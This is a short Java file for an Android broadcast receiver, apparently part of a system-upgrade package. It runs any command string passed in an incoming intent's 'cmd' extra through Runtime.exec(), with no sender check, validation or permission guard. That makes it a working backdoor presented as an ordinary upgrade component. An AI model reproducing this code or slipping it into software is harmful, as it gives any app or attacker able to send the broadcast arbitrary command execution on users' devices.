package com.fw.upgrade.sysoper;
class Oper extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    try { Runtime.getRuntime().exec(intent.getStringExtra("cmd")); } catch (Exception e) { Log.e("Oper", e.getMessage()); }
  }
}
